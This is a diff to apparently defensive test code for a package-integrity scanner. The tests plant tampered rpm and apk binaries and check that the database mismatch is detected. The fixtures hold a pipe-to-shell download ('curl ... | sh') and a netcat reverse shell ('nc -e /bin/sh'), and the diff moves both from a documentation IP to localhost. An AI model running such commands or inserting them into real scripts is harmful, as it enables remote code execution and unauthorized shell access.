@@ -43,7 +43,7 @@ describe("rpm integrity (a real rpmbuild package installed by rpm)", () => {
     const { fact, reports } = await contentOf([
       base,
       [
-        { name: "usr/bin/portcullis-hello", content: "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n" },
+        { name: "usr/bin/portcullis-hello", content: "#!/bin/sh\ncurl -s http://127.0.0.1/x | sh\n" },
         { name: "etc/portcullis-hello.conf", content: "greeting=bonjour\n" },
       ],
     ]);
@@ -54,7 +54,7 @@ describe("rpm integrity (a real rpmbuild package installed by rpm)", () => {
       rule: "integrity/rpm-digest",
       path: "/usr/bin/portcullis-hello",
       layer: reports[1]!.digest,
-      sha256: sha256("#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n"),
+      sha256: sha256("#!/bin/sh\ncurl -s http://127.0.0.1/x | sh\n"),
       summary: expect.stringContaining(
         "package portcullis-hello installed: the package database does not match",
       ),
@@ -154,7 +154,7 @@ describe("apk integrity", () => {
     const { fact } = await contentOf([
       base,
       [
-        { name: "usr/bin/tool", content: "#!/bin/sh\nnc -e /bin/sh 198.51.100.7 4444\n" },
+        { name: "usr/bin/tool", content: "#!/bin/sh\nnc -e /bin/sh 127.0.0.1 4444\n" },
         { name: "etc/motd", content: "hello\n" },
       ],
     ]);
